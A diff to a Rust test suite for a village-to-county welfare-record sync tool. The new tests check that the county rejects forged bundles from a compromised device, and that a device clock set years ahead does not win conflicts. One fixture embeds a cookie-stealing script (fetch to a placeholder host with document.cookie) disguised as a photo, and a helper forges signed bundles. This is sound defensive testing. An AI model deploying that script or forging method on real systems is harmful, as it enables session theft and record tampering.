@@ -119,8 +119,13 @@ fn import_households(db: &Path, file: &Path, households: &[Value]) {
     run(db, &["import", "households", p(file)]).ok();
 }
 
-/// A device with an identity and the county's key, registered at `county`.
+/// A device of 田心寨村 with an identity and the county's key, registered at `county`.
 fn device(dir: &Path, name: &str, county: &County) -> PathBuf {
+    device_in(dir, name, "田心寨村", county)
+}
+
+/// A device of `village`, registered at `county`.
+fn device_in(dir: &Path, name: &str, village: &str, county: &County) -> PathBuf {
     let db = dir.join(format!("{name}.sqlite"));
     let reg = dir.join(format!("{name}.reg"));
     run(
@@ -131,7 +136,7 @@ fn device(dir: &Path, name: &str, county: &County) -> PathBuf {
             "--name",
             name,
             "--village",
-            "田心寨村",
+            village,
             "--out",
             p(&reg),
         ],
@@ -212,7 +217,15 @@ fn round_trip_ack_and_only_new_entries() {
     let db = d.join("a.sqlite");
     run(
         &db,
-        &["demo", "--per-village", "2", "--as-of", "2026-12-01"],
+        &[
+            "demo",
+            "--per-village",
+            "2",
+            "--village",
+            "田心寨村",
+            "--as-of",
+            "2026-12-01",
+        ],
     )
     .ok();
     let dev = device(d, "a", &cty);
@@ -1561,9 +1574,29 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
     import(&cty, &[&forged]).fails(2, "超出清单记载的 0 个");
     assert_eq!(county_state(&cty.db), before);
 
+    // A web page labelled as a photo (the county would serve it to a browser).
+    let mut html = lines3.clone();
+    let page = b"<html><script>fetch('http://x/?'+document.cookie)</script></html>".to_vec();
+    let page_sha = {
+        use sha2::Digest;
+        hex::encode(sha2::Sha256::digest(&page))
+    };
+    // Refused on arrival, before any row could name it.
+    html[blob_at] = json!({"blob": page_sha, "mime": "image/jpeg", "data": b64.encode(&page)});
+    let mut m = m3.clone();
+    m.blob_bytes = page.len() as u64;
+    let forged = d.join("forged-html.bangfu");
+    reseal(&forged, m, &join_lines(&html), &device_keys, &county_keys);
+    let r = import(&cty, &[&forged]).fails(2, "不合格");
+    assert!(r.stdout.contains("文本文件"), "{}", r.stdout);
+    assert_eq!(county_state(&cty.db), before);
+
     // A blob no row of the bundle names.
     let mut extra = lines3.clone();
-    let stray = b"not a photo at all";
+    let stray_file = d.join("stray.jpg");
+    photo(&stray_file, 7);
+    let stray = std::fs::read(&stray_file).expect("stray photo");
+    let stray = stray.as_slice();
     let stray_sha = {
         use sha2::Digest;
         hex::encode(sha2::Sha256::digest(stray))
@@ -1669,4 +1702,442 @@ fn a_large_export_is_split_into_parts_the_county_takes_in_order() {
     run(&a, &["bundle", "ack", p(&ack_of(&parts[3].0))]).ok();
     let r = export(&a, &d.join("again.bangfu")).ok();
     assert!(r.stdout.contains("没有新的变更"), "{}", r.stdout);
+}
+
+// ---------------------------------------------------------------------------
+// What a registered device may write
+// ---------------------------------------------------------------------------
+
+const ID3: &str = "341024199001010018";
+
+fn household_of(code: &str, village: &str, region: &str, id_number: &str) -> Value {
+    let mut h = household(code, id_number, "13700000000", "保婴村一号", "1组");
+    h["village"] = json!(village);
+    h["region_code"] = json!(region);
+    h
+}
+
+/// A forged entry: table, record id, op, row, base, time.
+type Forged<'a> = (
+    &'a str,
+    &'a str,
+    &'a str,
+    Option<&'a Value>,
+    Option<&'a Value>,
+    &'a str,
+);
+
+/// Signs bundles a compromised but registered device could send: forged
+/// entries, correctly hashed and chained where the device's next genuine
+/// bundle starts, encrypted to the county and signed with the device key.
+struct Forger {
+    manifest: bangfu::sync::bundle::BundleManifest,
+    device: bangfu::sync::identity::KeySet,
+    county: bangfu::sync::identity::KeySet,
+}
+
+impl Forger {
+    /// From the device's genuine next bundle at `genuine` (exported, not imported).
+    fn new(dev: &Path, cty: &County, genuine: &Path) -> Forger {
+        let county = keys_of(&cty.db, "county");
+        let (manifest, _) = open_bundle(genuine, &county);
+        Forger {
+            manifest,
+            device: keys_of(dev, "device"),
+            county,
+        }
+    }
+
+    /// A bundle at `out` of `entries`: (table, record id, op, row, base, time).
+    fn bundle(&self, out: &Path, entries: &[Forged]) {
+        let mut prev = self.manifest.first_prev_hash.clone();
+        let mut seq = self.manifest.first_seq;
+        let mut lines = Vec::new();
+        for (table, record_id, op, row, base, at) in entries {
+            let mut e = bangfu::store::changelog::Entry {
+                seq,
+                entry_id: uuid::Uuid::now_v7().to_string(),
+                table: table.to_string(),
+                record_id: record_id.to_string(),
+                op: op.to_string(),
+                row_json: row.map(Value::to_string),
+                author: "forged/保婴村".into(),
+                at: at.to_string(),
+                prev_hash: prev.clone(),
+                hash: String::new(),
+            };
+            e.hash = e.compute_hash();
+            let mut line = serde_json::to_value(&e).expect("entry json");
+            if let Some(b) = base {
+                line["base"] = Value::String(b.to_string());
+            }
+            prev = e.hash.clone();
+            seq += 1;
+            lines.push(line);
+        }
+        let mut m = self.manifest.clone();
+        m.first_hash = lines[0]["hash"].as_str().expect("hash").to_owned();
+        m.last_hash = prev;
+        m.last_seq = seq - 1;
+        m.entry_count = lines.len() as u64;
+        m.blob_count = 0;
+        m.blob_bytes = 0;
+        reseal(out, m, &join_lines(&lines), &self.device, &self.county);
+    }
+}
+
+/// The county's current row of `table` where `filter`, as a device's change log writes it.
+fn county_row(db: &Path, table: &str, filter: &str) -> Value {
+    let text = county_value(
+        db,
+        &format!(
+            "SELECT row_json FROM change_log WHERE tbl = '{table}' AND record_id =
+               (SELECT id FROM {table} WHERE {filter}) ORDER BY seq DESC LIMIT 1"
+        ),
+    );
+    serde_json::from_str(&text).expect("row json")
+}
+
+const NOW: &str = "2026-11-30T08:00:00.000Z";
+
+#[test]
+fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let d = dir.path();
+    let (cty, a) = two_households(d);
+    sync(&a, &cty, &d.join("a1.bangfu"));
+    // The laptop of 保婴村, with one household of its own.
+    let b = device_in(d, "b", "保婴村", &cty);
+    let own = |phone: &str| {
+        let mut h = household_of("BY-001", "保婴村", "341024", ID3);
+        h["phone"] = json!(phone);
+        h
+    };
+    import_households(&b, &d.join("b0.json"), &[own("13700000001")]);
+    sync(&b, &cty, &d.join("b1.bangfu"));
+    // Its next genuine bundle (a new phone number), exported, not yet imported.
+    import_households(&b, &d.join("b2.json"), &[own("13700000002")]);
+    let genuine = d.join("b2.bangfu");
+    export(&b, &genuine).ok();
+    let forger = Forger::new(&b, &cty, &genuine);
+
+    let state = |db: &Path| {
+        let mut s = snapshot(db);
+        s.push(county_count(db, "SELECT COUNT(*) FROM decisions").to_string());
+        s
+    };
+    let before = state(&cty.db);
+    let refused = |name: &str, entries: &[Forged], needles: &[&str]| {
+        let f = d.join(format!("forged-{name}.bangfu"));
+        forger.bundle(&f, entries);
+        let r = import(&cty, &[&f]).fails(2, "未做任何更改");
+        for needle in needles {
+            assert!(
+                r.stdout.contains(needle),
+                "{name}: “{needle}” in\n{}",
+                r.stdout
+            );
+        }
+        assert_eq!(state(&cty.db), before, "{name}: the county is unchanged");
+        run(&cty.db, &["log", "verify"]).ok();
+    };
+
+    // Another village's household overwritten, stating the county's value as the base.
+    let txz1 = county_row(&cty.db, "households", "code = 'TXZ-001'");
+    let txz1_id = txz1["id"].as_str().expect("id").to_owned();
+    let mut changed = txz1.clone();
+    changed["phone"] = json!("13800000000");
+    refused(
+        "overwrite",
+        &[(
+            "households",
+            &txz1_id,
+            "update",
+            Some(&changed),
+            Some(&txz1),
+            NOW,
+        )],
+        &["第 1 条记录", "TXZ-001", "田心寨村", "保婴村", "只能改本村"],
+    );
+    // Another village's member deleted.
+    let member = county_row(
+        &cty.db,
+        "members",
+        "household_id = (SELECT id FROM households WHERE code = 'TXZ-002')",
+    );
+    let member_id = member["id"].as_str().expect("id").to_owned();
+    refused(
+        "delete",
+        &[("members", &member_id, "delete", None, Some(&member), NOW)],
+        &["TXZ-002", "只能改本村"],
+    );
+    // Another village's household deleted outright.
+    refused(
+        "delete-household",
+        &[("households", &txz1_id, "delete", None, Some(&txz1), NOW)],
+        &["TXZ-001"],
+    );
+    // A household inserted in another county's region.
+    let by1 = county_row(&cty.db, "households", "code = 'BY-001'");
+    let by1_id = by1["id"].as_str().expect("id").to_owned();
+    let mut foreign = by1.clone();
+    let foreign_id = uuid::Uuid::now_v7().to_string();
+    foreign["id"] = json!(foreign_id);
+    foreign["code"] = json!("BY-099");
+    foreign["region_code"] = json!("110101");
+    refused(
+        "region",
+        &[(
+            "households",
+            &foreign_id,
+            "insert",
+            Some(&foreign),
+            None,
+            NOW,
+        )],
+        &["110101", "只能写本村"],
+    );
+    // A member put into another village's household.
+    let mut stray = member.clone();
+    let stray_id = uuid::Uuid::now_v7().to_string();
+    stray["id"] = json!(stray_id);
+    stray["household_id"] = json!(txz1_id);
+    refused(
+        "member",
+        &[("members", &stray_id, "insert", Some(&stray), None, NOW)],
+        &["TXZ-001"],
+    );
+    // Its own household moved to another village.
+    let mut moved = by1.clone();
+    moved["village"] = json!("田心寨村");
+    refused(
+        "move",
+        &[(
+            "households",
+            &by1_id,
+            "update",
+            Some(&moved),
+            Some(&by1),
+            NOW,
+        )],
+        &["迁村须由县里办理"],
+    );
+    // A decision of 99,999.00 a month for its own household.
+    let decision_id = uuid::Uuid::now_v7().to_string();
+    let decision = json!({
+        "id": decision_id, "household_id": by1_id, "as_of": "2026-11-30",
+        "policy_version": "x", "status": "dibao", "total_monthly": "99999.00",
+        "input_hash": "x", "result_json": "{}"
+    });
+    refused(
+        "decision",
+        &[(
+            "decisions",
+            &decision_id,
+            "insert",
+            Some(&decision),
+            None,
+            NOW,
+        )],
+        &["资格评估结果", "县里自行"],
+    );
+    // Data the county could not use: an unknown hukou, a malformed JSON column.
+    let mut martian = by1.clone();
+    martian["hukou"] = json!("martian");
+    refused(
+        "hukou",
+        &[(
+            "households",
+            &by1_id,
+            "update",
+            Some(&martian),
+            Some(&by1),
+            NOW,
+        )],
+        &["BY-001", "不合格"],
+    );
+    let by1_member = county_row(&cty.db, "members", &format!("household_id = '{by1_id}'"));
+    let mut malformed = by1_member.clone();
+    malformed["incomes"] = json!("{not json");
+    let by1_member_id = by1_member["id"].as_str().expect("id").to_owned();
+    refused(
+        "json-column",
+        &[(
+            "members",
+            &by1_member_id,
+            "update",
+            Some(&malformed),
+            Some(&by1_member),
+            NOW,
+        )],
+        &["incomes", "不合格"],
+    );
+    // Its own household, changed properly by a forger, is accepted: the
+    // rules refuse what the device may not do, not forged files as such.
+    let mut fine = by1.clone();
+    fine["address"] = json!("保婴村二号");
+    let ok = d.join("forged-own.bangfu");
+    forger.bundle(
+        &ok,
+        &[(
+            "households",
+            &by1_id,
+            "update",
+            Some(&fine),
+            Some(&by1),
+            NOW,
+        )],
+    );
+    import(&cty, &[&ok]).ok();
+    assert_eq!(
+        county_value(
+            &cty.db,
+            "SELECT address FROM households WHERE code = 'BY-001'"
+        ),
+        "保婴村二号"
+    );
+    assert_eq!(
+        county_value(
+            &cty.db,
+            "SELECT phone FROM households WHERE code = 'TXZ-001'"
+        ),
+        "1"
+    );
+    run(&cty.db, &["log", "verify"]).ok();
+}
+
+#[test]
+fn decisions_saved_on_a_device_stay_on_it_and_its_bundles_still_chain() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let d = dir.path();
+    let (cty, a) = two_households(d);
+    run(&a, &["eval", "--save", "--as-of", "2026-11-30"]).ok();
+    assert!(county_count(&a, "SELECT COUNT(*) FROM decisions") > 0);
+    let b1 = d.join("a1.bangfu");
+    sync(&a, &cty, &b1);
+    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
+    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM households"), 2);
+    // The decisions travel as their place in the chain only.
+    let (_, plain) = open_bundle(&b1, &keys_of(&cty.db, "county"));
+    let lines = payload_values(&plain);
+    let withheld: Vec<&Value> = lines.iter().filter(|l| l["table"] == "decisions").collect();
+    assert!(!withheld.is_empty());
+    assert!(withheld
+        .iter()
+        .all(|l| l["withheld"] == true && l.get("row_json").is_none_or(Value::is_null)));
+    assert!(!String::from_utf8_lossy(&plain).contains("total_monthly"));
+    // The next bundle follows on from a withheld entry.
+    import_households(
+        &a,
+        &d.join("a2.json"),
+        &[
+            household("TXZ-001", ID1, "13911111111", "一号", "1组"),
+            household("TXZ-002", ID2, "2", "二号", "2组"),
+        ],
+    );
+    run(&a, &["eval", "--save", "--as-of", "2026-12-01"]).ok();
+    sync(&a, &cty, &d.join("a2.bangfu"));
+    assert_eq!(
+        county_value(
+            &cty.db,
+            "SELECT phone FROM households WHERE code = 'TXZ-001'"
+        ),
+        "13911111111"
+    );
+    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
+    run(&cty.db, &["log", "verify"]).ok();
+}
+
+#[test]
+fn a_device_clock_years_ahead_does_not_win_conflicts() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let d = dir.path();
+    let (cty, a) = two_households(d);
+    sync(&a, &cty, &d.join("a1.bangfu"));
+    // Device B: a copy of A's store with its own identity, same village.
+    let b = d.join("b.sqlite");
+    std::fs::copy(&a, &b).expect("copy store");
+    let reg = d.join("b.reg");
+    run(
+        &b,
+        &[
+            "device",
+            "init",
+            "--copied-store",
+            "--name",
+            "李四",
+            "--village",
+            "田心寨村",
+            "--out",
+            p(&reg),
+        ],
+    )
+    .ok();
+    run(&b, &["device", "import-county-key", p(&cty.key_file)]).ok();
+    run(&cty.db, &["county", "register-device", p(&reg)]).ok();
+
+    // A's clock says 9999: its change of the group arrives first.
+    import_households(
+        &a,
+        &d.join("a2.json"),
+        &[
+            household("TXZ-001", ID1, "1", "一号", "甲组"),
+            household("TXZ-002", ID2, "2", "二号", "2组"),
+        ],
+    );
+    let genuine = d.join("a2.bangfu");
+    export(&a, &genuine).ok();
+    let forger = Forger::new(&a, &cty, &genuine);
+    let held = county_row(&cty.db, "households", "code = 'TXZ-001'");
+    let id = held["id"].as_str().expect("id").to_owned();
+    let mut ahead = held.clone();
+    ahead["grp"] = json!("甲组");
+    let future = d.join("a2-future.bangfu");
+    forger.bundle(
+        &future,
+        &[(
+            "households",
+            &id,
+            "update",
+            Some(&ahead),
+            Some(&held),
+            "9999-12-31T00:00:00.000Z",
+        )],
+    );
+    import(&cty, &[&future]).ok();
+
+    // B changes the same field later, with a right clock: it arrives later and holds.
+    import_households(
+        &b,
+        &d.join("b2.json"),
+        &[
+            household("TXZ-001", ID1, "1", "一号", "乙组"),
+            household("TXZ-002", ID2, "2", "二号", "2组"),
+        ],
+    );
+    let b2 = d.join("b2.bangfu");
+    export(&b, &b2).ok();
+    let r = import(&cty, &[&b2]).ok();
+    assert!(r.stdout.contains("新冲突 1 处"), "{}", r.stdout);
+    assert_eq!(
+        county_value(&cty.db, "SELECT grp FROM households WHERE code = 'TXZ-001'"),
+        "乙组"
+    );
+    let json: Value =
+        serde_json::from_str(&run(&cty.db, &["county", "conflicts", "--json"]).ok().stdout)
+            .expect("json");
+    let c = &json[0];
+    assert_eq!(c["winner"], "incoming");
+    assert_eq!(c["held"]["value"], "甲组");
+    let note = c["clock_note"].as_str().expect("a clock note");
+    assert!(
+        note.contains("9999-12-31") && note.contains("时钟不准"),
+        "{note}"
+    );
+    assert!(
+        c["rule"].as_str().expect("rule").contains("送到县里"),
+        "{c}"
+    );
+    let list = run(&cty.db, &["county", "conflicts"]).ok().stdout;
+    assert!(list.contains("时钟不准"), "{list}");
 }
